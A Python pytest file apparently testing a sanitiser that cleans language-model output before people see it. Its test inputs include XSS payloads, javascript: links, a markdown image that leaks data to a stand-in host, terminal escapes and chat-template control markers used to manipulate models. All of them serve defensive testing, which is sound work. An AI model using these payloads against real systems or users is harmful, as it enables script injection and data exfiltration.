"""What leaves the model is text for people: cases by hand, and random text judged by parsers that are not ours."""

import random
import time

import pytest

from llmops.guards.output import Cleaned, OutputPolicy, clean
from tests.guards import output_cases
from tests.guards.output_cases import POLICY, links_in, markers_in, markup_in, people_in, unseen_in


def cleaned(text: str) -> str:
    return clean(text, policy=POLICY).text


@pytest.mark.parametrize(
    "text",
    [
        "Hello Åse, your parcel left Lübeck on 2026-11-02 at 09:15; it weighs 2.5 kg.",
        "Is 3 < 4 and a<=b? Then x -> y, 10 > 9, and 2<3>1.",
        "**Bold**, *italic*, `code`, - lists\n1. and numbers\n\n> quotes\n\n### Heading",
        "See https://shop.example/returns?a=1&b=2#top, or (https://www.shop.example).",
        "See [our returns page](https://shop.example/returns) and [help](mailto:help@shop.example).",
        "Write to help@shop.example or call +49 451 123456, mailto:help@shop.example.",
        "C:\\Users\\kari\\file.txt, /home/kari/notes.md, and/or, e.g. 10:30, note:this",
        "您好，您的订单已发货。谢谢！ Спасибо за заказ. مرحبا بكم ❤️",
        "Really! [1] says so, [a] and [b], see footnote [2].",
        "Version 1.2.3 of node.js came out on 2.11.2026.",
        "",
    ],
)
def test_honest_answer_passes_unchanged(text: str) -> None:
    assert clean(text, policy=POLICY) == Cleaned(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<b>Hi</b> <i class='x'>you</i>", "Hi you"),
        ("one<br>two<br/>three<p>four</p>", "one\ntwo\nthreefour\n"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<img src=x onerror=alert(1)>", ""),
        ("<scr<b>ipt>alert(1)</script>", "< script>alert(1)"),
        ("<<b>script>alert(1)", "< script>alert(1)"),
        ("<!-- hidden -->shown", "shown"),
        ("x<y and y>z", "x< y and y>z"),
        ("List<String> of a<b", "List< String> of a< b"),
        ("<iframe src='//evil.example", "< iframe src='[//]evil[.]example"),
        ("<EMAIL> asked, <CARD:0123456789abcdef>", "‹EMAIL› asked, ‹CARD›"),
    ],
)
def test_tags_go_and_text_stays(text: str, shown: str) -> None:
    assert cleaned(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Go to https://evil.example/?q=1 now", "Go to https[://]evil[.]example/?q=1 now"),
        ("HTTP://EVIL.example", "HTTP[://]EVIL[.]example"),
        ("<https://evil.example>", "https[://]evil[.]example"),
        ("www.evil.example and evil.com and evil.de/login", "www[.]evil[.]example and evil[.]com and evil[.]de/login"),
        ("//evil.example/x", "[//]evil[.]example/x"),
        ("https:\\\\evil.example", "https[:\\\\]evil[.]example"),
        ("https://shop.example@evil.example/", "https[://]‹EMAIL›/"),
        ("https://shop.example:pass@evil/", "https[://]shop[.]example[:]pass@evil/"),
        ("https://shop.example\\@evil/", "https[://]shop[.]example\\@evil/"),
        ("https://shop.example.evil.example/", "https[://]shop[.]example[.]evil[.]example/"),
        ("https://evil\u3002example", "https[://]evil[\u3002]example"),
        ("https://shop.example/?to=https://evil.example/", "https://shop.example/?to=https[://]evil[.]example/"),
        ("ftp://evil.example/x", "ftp[://]evil[.]example/x"),
        ("javascript:alert(1)", "javascript[:]alert(1)"),
        ("java\x00script:alert(1) data:text/html,x", "javascript[:]alert(1) data[:]text/html,x"),
        ("[bank](https://evil.example/x)", "[bank] (https[://]evil[.]example/x)"),
        ('[bank]( https://evil.example "title")', '[bank] ( https[://]evil[.]example "title")'),
        ("[x](javascript:alert(1))", "[x]…"),
        ("[x](&#106;avascript:alert(1))", "[x] (&#106;avascript:alert(1))"),
        ('[ours](https://shop.example/a "t")', "[ours](https://shop.example/a)"),
        ("[a [b](https://evil.com) c](https://shop.example/)", None),
        ("![chart](https://evil.example/?q=secret)", "[chart]…"),
        ("![ours](https://shop.example/a.png)", "[ours]…"),
        ("![a][r]\n\n[r]: https://evil.example/?q=1", "[a][r]\n\n[r] : https[://]evil[.]example/?q=1"),
        ("!![a](x)(https://evil.com)", None),
        ("[![a](https://evil.com/x)](https://evil.com/y)", None),
    ],
)
def test_only_allowed_links_can_be_followed(text: str, shown: str | None) -> None:
    result = cleaned(text)

    assert links_in(result) == []
    assert shown in {None, result}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "\x1b[31mred\x1b[0m \x1b]0;title\x07text \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
            "red text link",
        ),
        ("a\u200bb\u202ec\u2066d\ufeffe\x07\x00\x08f\x7f", "abcdef"),
        ("hidden\U000e0041\U000e0042 word, \u3164filler", "hidden word, filler"),
        ("line\r\nline\u2028line\x0cend\tcolumn", "line\nline\nline\nend\tcolumn"),
        ("lone \ud800 surrogate", "lone  surrogate"),
        ("wrong\u2019s \x9d quotes\x9b stay", "wrong’s  quotes stay"),
    ],
)
def test_what_nobody_sees_goes(text: str, shown: str) -> None:
    assert cleaned(text) == shown


@pytest.mark.parametrize(
    "marker",
    [
        "<|im_start|>",
        "<|eot_id|>",
        "<\uff5cend\u2581of\u2581sentence\uff5c>",
        "<s>",
        "</s>",
        "[INST]",
        "[/INST]",
        "[Answer]",
        "[ question ]",
        "####",
        "<start_of_turn>",
        "<<SYS>>",
        "<|im_<b></b>end|>",
        "[Ans\u200bwer]",
        "##<b>##",
    ],
)
def test_control_markers_go(marker: str) -> None:
    result = clean(f"Yes.{marker}Ask on", policy=POLICY)

    assert markers_in(result.text) == []
    assert "inst" not in result.text.lower()
    assert "answer" not in result.text.lower()


def test_marker_cannot_be_hidden_in_another() -> None:
    assert markers_in(cleaned("##[INST]## [Ans[INST]wer] <|im<|x|>_start|> <<s>|im_start|>")) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Your card 4111 1111 1111 1111 is on file.", "Your card ‹CARD› is on file."),
        ("IBAN DE89 3704 0044 0532 0130 00, thanks", "IBAN ‹IBAN›, thanks"),
        ("MT84 MALT 0110 0001 2345 MTLC AST0 01S it is", "‹IBAN› it is"),
        ("Kari: kari@example.org, +47 22 12 34 56!", "Kari: ‹EMAIL›, ‹PHONE›!"),
        ("4111\u200b1111\x1b[0m1111<b>1111</b>", "‹CARD›"),
        ("４１１１１１１１１１１１１１１１", "‹CARD›"),
        ("[mail](mailto:kari@example.org)", "[mail]…"),
        ("https://shop.example/?mail=kari@example.org", "https://shop.example/?mail=‹EMAIL›"),
        ("card 4111.1111.1111.1111/x", "card ‹CARD›/x"),
        ("4111 1111 1111 1111DE89 3704 0044 0532 0130 00", "‹CARD›‹IBAN›"),
        ("Call (020) 7946 0958[x](4:user", "Call ‹PHONE›[x] (4:user"),
        ("Call +49-451-123456 or help@SHOP.example, not xhelp@shop.example", None),
    ],
)
def test_personal_data_goes_unless_it_is_the_shops_own(text: str, shown: str | None) -> None:
    expected = shown or "Call +49-451-123456 or help@SHOP.example, not ‹EMAIL›"

    assert cleaned(text) == expected


def test_findings_say_what_was_changed() -> None:
    text = "\x1b[1m<b>x</b> [INST] ![a](b) https://evil.example kari@example.org 4111111111111111"

    assert clean(text, policy=OutputPolicy()).findings == {
        "control": 1,
        "markup": 2,
        "marker": 1,
        "image": 1,
        "link": 1,
        "EMAIL": 1,
        "CARD": 1,
    }


def test_every_control_and_format_character_goes() -> None:
    everything = "".join(map(chr, range(0x110000)))

    assert unseen_in(cleaned(everything)) == []


@pytest.mark.parametrize("seed", range(300))
def test_nothing_forbidden_is_left_of_random_text(seed: int) -> None:
    result = cleaned(output_cases.random_text(random.Random(seed)))  # noqa: S311 - the same text every time

    judged = [judge(result) for judge in (markup_in, links_in, unseen_in, markers_in, people_in)]

    assert judged == [[], [], [], [], []], result


@pytest.mark.parametrize(
    "unit", ["a", "1 ", "[", "](", "![x](", "<a ", "<", "https://a.b/", "a.", "a@", "#", "\x1b[", "//", "您"]
)
def test_time_grows_no_faster_than_the_text(unit: str) -> None:
    def seconds(characters: int) -> float:
        text = (unit * characters)[:characters]
        started = time.process_time()
        cleaned(text)
        return time.process_time() - started

    short, long = (min(seconds(characters) for _ in range(2)) for characters in (5_000, 20_000))

    assert long < 8 * max(short, 0.005)
